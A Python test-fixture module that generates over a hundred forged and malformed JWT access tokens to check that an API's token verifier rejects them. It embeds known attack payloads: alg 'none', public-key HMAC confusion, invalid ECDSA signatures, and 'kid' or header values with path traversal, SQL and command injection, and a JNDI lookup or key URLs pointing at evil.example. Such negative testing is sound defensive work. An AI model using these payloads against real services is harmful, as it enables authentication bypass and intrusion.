"""A hundred and more forged access tokens, for whoever wants to be sure that none gets in."""

from __future__ import annotations

import base64
import hmac
import json
from dataclasses import dataclass
from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from chalicelib.core import clock, ids


def b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


@dataclass(frozen=True)
class Target:
    """Whose tokens are forged: where they are good, for whom, and by which key."""

    issuer: str
    user: str
    session: str
    kid: str
    key: Any

    def claims(self, **other: Any) -> dict[str, Any]:
        """What a good token says, with something else in it; None leaves a claim out."""
        now = clock.epoch()
        found = {
            "iss": self.issuer,
            "aud": "clouddeck-api",
            "sub": self.user,
            "sid": self.session,
            "jti": "j",
            "iat": now,
            "exp": now + 60,
            **other,
        }
        return {name: value for name, value in found.items() if value is not None}

    def header(self, **other: Any) -> dict[str, Any]:
        """The same for the header."""
        found = {"alg": "ES256", "typ": "at+jwt", "kid": self.kid, **other}
        return {name: value for name, value in found.items() if value is not None}

    def good(self) -> str:
        """A token with nothing wrong."""
        return signed(self.key, dump(self.header()), dump(self.claims()))


def signed(key, head, body) -> str:
    """A token with exactly these texts, signed with ES256."""
    text = f"{b64(head)}.{b64(body)}"
    r, s = decode_dss_signature(key.sign(text.encode(), ec.ECDSA(SHA256())))
    return f"{text}.{b64(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"


def dump(content) -> bytes:
    return json.dumps(content).encode()


def claims_of(token: str) -> dict[str, Any]:
    """What a token says, unchecked."""
    return dict(jwt.decode(token, options={"verify_signature": False}))


MALFORMED, EXPIRED, INVALID = "token_malformed", "token_expired", "token_invalid"
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def code_of(name: str) -> str:
    """The code that a forgery of this name gets: nearly all are simply not ours."""
    if name in {"expired", "expiry negative", "expiry true"}:
        return EXPIRED  # signed by us, and over
    return MALFORMED if name.startswith(UNREADABLE) else INVALID


UNREADABLE = (
    "alg 'none' unsigned", "alg 'None' unsigned", "alg 'NONE' unsigned", "alg 'nOnE' unsigned",
    "alg '' unsigned", "duplicate", "payload is", "no signature", "no header", "no payload",
    "two parts", "one part", "four parts", "five parts", "seven parts", "white space", "tab",
    "line break", "padding", "other alphabet", "unicode", "other spelling", "JSON", "JWE", "JWS",
    "dots", "header is", "header not a number", "claim infinite", "claim not a number",
    "header too deep", "an empty text", "a refresh token", "NUL", "header with NUL",
)  # fmt: skip
"""Beginnings of the names of what is not even a token."""


def forged(target: Target) -> dict[str, str]:
    """Name -> token; `code_of` says how each is refused."""
    key = target.key
    other = ec.generate_private_key(ec.SECP256R1())
    public = key.public_key()
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    jwk = jwt.algorithms.ECAlgorithm.to_jwk(public).encode()
    der = public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    good = signed(key, dump(target.header()), dump(target.claims()))
    h, p, s = good.split(".")
    found: dict[str, str] = {}
    for name in ("none", "None", "NONE", "nOnE", ""):
        text = f"{b64(dump(target.header(alg=name)))}.{p}"
        found[f"alg {name!r} unsigned"] = text + "."
        found[f"alg {name!r} with signature"] = f"{text}.{s}"
    for algorithm in ("HS256", "HS384", "HS512"):
        for kind, secret in (("pem", pem), ("der", der), ("jwk", jwk), ("empty", b"")):
            text = f"{b64(dump(target.header(alg=algorithm)))}.{p}"
            mac = hmac.new(secret, text.encode(), f"sha{algorithm[2:]}").digest()
            found[f"{algorithm} with public key as {kind}"] = f"{text}.{b64(mac)}"
    for algorithm in ("RS256", "ES384", "ES512", "ES256K", "EdDSA", "PS256"):
        found[f"alg {algorithm}"] = signed(
            key, dump(target.header(alg=algorithm)), dump(target.claims())
        )
    kids = {
        "path": "../../dev/null",
        "absolute": "/etc/hostname",
        "sql": "k1' UNION SELECT 'x",
        "command": "k1|whoami",
        "empty": "",
        "null": None,
        "list": ["k1"],
        "number": 1,
        "object": {"k1": 1},
        "unknown": "k9",
        "upper": "K1",
        "long": "k" * 3000,
        "address": "https://evil.example/key",
        "template": "${jndi:ldap://evil.example/a}",
        "object name": "__class__",
        "with a dot": "k1.",
        "with a space": "k1 ",
        "true": True,
    }
    for name, kid in kids.items():
        found[f"kid {name}"] = signed(other, dump(target.header(kid=kid)), dump(target.claims()))
    extra = {
        "jku": "https://evil.example/keys",
        "x5u": "https://evil.example/cert",
        "jwk": json.loads(jwt.algorithms.ECAlgorithm.to_jwk(other.public_key())),
        "x5c": [b64(der)],
        "x5t": b64(bytes(20)),
        "x5t#S256": b64(bytes(32)),
        "epk": {"kty": "EC"},
        "p2c": 10**9,
        "crit": ["exp"],
        "b64": False,
        "zip": "DEF",
        "cty": "JWT",
        "enc": "A256GCM",
    }
    for name, value in extra.items():
        found[f"header {name}, own key"] = signed(
            other, dump(target.header(**{name: value})), dump(target.claims())
        )
        found[f"header {name}, right key"] = signed(
            key, dump(target.header(**{name: value})), dump(target.claims())
        )
    for name, typ in (
        ("JWT", "JWT"),
        ("refresh", "rt+jwt"),
        ("none", None),
        ("case", "AT+JWT"),
        ("media", "application/at+jwt"),
        ("list", ["at+jwt"]),
        ("space", "at+jwt "),
    ):
        found[f"typ {name}"] = signed(key, dump(target.header(typ=typ)), dump(target.claims()))
    now = clock.epoch()
    wrong = {
        "other issuer": {"iss": "https://evil.example"},
        "no issuer": {"iss": None},
        "issuer list": {"iss": [target.issuer]},
        "other audience": {"aud": "another-api"},
        "no audience": {"aud": None},
        "audience list": {"aud": ["clouddeck-api", "another-api"]},
        "no expiry": {"exp": None},
        "expired": {"exp": now - 1},
        "expiry text": {"exp": "never"},
        "expiry negative": {"exp": -(2**62)},
        "expiry huge": {"exp": 2**62},
        "expiry beyond a day": {"exp": now + 24 * 3600 + 60},
        "expiry fraction": {"exp": now + 60.5},
        "expiry number as text": {"exp": str(now + 60)},
        "expiry list": {"exp": [now + 60]},
        "expiry true": {"exp": True},
        "made as text": {"iat": str(now)},
        "made never": {"iat": None},
        "made before it all": {"iat": -1},
        "issuer with a slash": {"iss": target.issuer + "/"},
        "issuer in capitals": {"iss": target.issuer.upper()},
        "audience in capitals": {"aud": "CLOUDDECK-API"},
        "audience list of one": {"aud": ["clouddeck-api"]},
        "audience empty": {"aud": ""},
        "not yet as text": {"nbf": "tomorrow"},
        "subject is a session": {"sub": target.session},
        "subject is a team": {"sub": ids.new("team")},
        "subject is a key": {"sub": ids.new("key")},
        "subject with a space": {"sub": target.user + " "},
        "subject in capitals": {"sub": target.user.upper()},
        "session is a user": {"sid": target.user},
        "session empty": {"sid": ""},
        "token id number": {"jti": 7},
        "not yet": {"nbf": now + 3600},
        "issued later": {"iat": now + 3600},
        "no subject": {"sub": None},
        "subject number": {"sub": 5},
        "subject of another kind": {"sub": "prj_" + "0" * 26},
        "subject with key separator": {"sub": "usr_#" + "0" * 25},
        "no session": {"sid": None},
        "session list": {"sid": [target.session]},
        "session injection": {"sid": "ses_x#META"},
        "no token id": {"jti": None},
    }
    for name, change in wrong.items():
        found[name] = signed(key, dump(target.header()), dump(target.claims(**change)))
    twice = dump(target.claims())[:-1] + b', "sub": "usr_00000000000000000000000000"}'
    found["duplicate claim"] = signed(key, dump(target.header()), twice)
    found["duplicate header"] = signed(
        key, dump(target.header())[:-1] + b', "alg": "ES256"}', dump(target.claims())
    )
    found["duplicate key id"] = signed(
        key, dump(target.header())[:-1] + b', "kid": "k1"}', dump(target.claims())
    )
    found["payload is a list"] = signed(key, dump(target.header()), b"[]")
    found["payload is not JSON"] = signed(key, dump(target.header()), b"hello")
    found["payload is no UTF-8"] = signed(key, dump(target.header()), b"\xff\xfe{}")
    found["payload is a token"] = signed(key, dump(target.header(cty="JWT")), good.encode())
    found["payload is deep"] = signed(
        key, dump(target.header()), b'{"a":' * 500 + b"1" + b"}" * 500
    )
    found["header is a list"] = signed(key, b'["ES256"]', dump(target.claims()))
    found["header is null"] = signed(key, b"null", dump(target.claims()))
    found["header with NUL"] = signed(key, b'{"alg":"ES256\\u0000"}', dump(target.claims()))
    found["header empty"] = signed(key, b"{}", dump(target.claims()))
    for name, number in (("infinite", b"1e999"), ("not a number", b"NaN")):
        body = dump(target.claims())[:-1] + b', "x": ' + number + b"}"
        found[f"claim {name}"] = signed(key, dump(target.header()), body)
    found["other key"] = signed(other, dump(target.header()), dump(target.claims()))
    n = P256_ORDER
    signatures = {
        "of zeros": bytes(64),
        "with r = 0": bytes(32) + unb64(s)[32:],
        "with s = 0": unb64(s)[:32] + bytes(32),
        "with r = order": n.to_bytes(32, "big") + unb64(s)[32:],
        "with s = order": unb64(s)[:32] + n.to_bytes(32, "big"),
        "of ones": b"\xff" * 64,
        "halves exchanged": unb64(s)[32:] + unb64(s)[:32],
        "cut off": unb64(s)[:63],
        "half": unb64(s)[:32],
        "one byte longer": unb64(s) + b"\0",
        "twice": unb64(s) * 2,
    }
    for name, raw in signatures.items():
        found[f"signature {name}"] = f"{h}.{p}.{b64(raw)}"
    found["DER signature"] = f"{h}.{p}.{b64(key.sign(f'{h}.{p}'.encode(), ec.ECDSA(SHA256())))}"
    found["signature of another token"] = (
        f"{h}.{p}."
        + signed(key, dump(target.header()), dump(target.claims(jti="other"))).rpartition(".")[2]
    )
    found["no signature"] = f"{h}.{p}."
    found["no header"] = f".{p}.{s}"
    found["no payload"] = f"{h}..{s}"
    found["one part"] = h
    found["two parts"] = f"{h}.{p}"
    found["four parts"] = f"{good}.{s}"
    found["five parts"] = f"{good}.{h}.{p}"
    found["seven parts"] = f"{good}.{good}."
    found["dots"] = ".."
    found["an empty text"] = ""
    found["changed payload"] = f"{h}.{b64(dump(target.claims(sub=ids.new('usr'))))}.{s}"
    found["changed header"] = f"{b64(dump(target.header())[:-1] + b' }')}.{p}.{s}"
    found["white space in front"] = f" {good}"
    found["white space inside"] = f"{h}. {p}.{s}"
    found["tab at the end"] = f"{good}\t"
    found["line break"] = f"{good}\n"
    found["line break inside"] = f"{h}\n.{p}.{s}"
    found["NUL at the end"] = f"{good}\0"
    found["padding of the header"] = f"{h}=.{p}.{s}"
    found["padding of the signature"] = f"{good}=="
    found["other alphabet"] = good.replace("-", "+").replace("_", "/") + "+"
    found["unicode"] = good[:-1] + "\u00e4"
    found["unicode dot"] = good.replace(".", "\u3002")
    found["other spelling of the signature"] = good[:-1] + respelled(good[-1])
    found["other spelling of the header"] = spelled_otherwise(target)
    found["JSON flattened"] = json.dumps({"protected": h, "payload": p, "signature": s})
    found["JSON general"] = json.dumps(
        {"payload": p, "signatures": [{"protected": h, "signature": s}]}
    )
    found["JWS with detached payload"] = f"{h}..{s}"
    found["JWS with payload as it is"] = f"{h}.{dump(target.claims()).decode()}.{s}"
    found["JWE shape"] = ".".join([b64(dump({"alg": "dir", "enc": "A256GCM"})), "", h, p, s])
    found["a refresh token"] = f"rt_{target.session}.{'A' * 22}.{'A' * 43}"
    return found


def unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def respelled(last: str) -> str:
    """Another last character that stands for the same bytes: its unused bits differ."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return alphabet[alphabet.index(last) ^ 1]


def spelled_otherwise(target: Target) -> str:
    """Signed as it stands, by the right key, with a header in a spelling that nobody makes."""
    head = dump(target.header())
    while len(head) % 3 == 0:
        head += b" "
    spelled = b64(head)[:-1] + respelled(b64(head)[-1])
    text = f"{spelled}.{b64(dump(target.claims()))}"
    r, s = decode_dss_signature(target.key.sign(text.encode(), ec.ECDSA(SHA256())))
    return f"{text}.{b64(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"
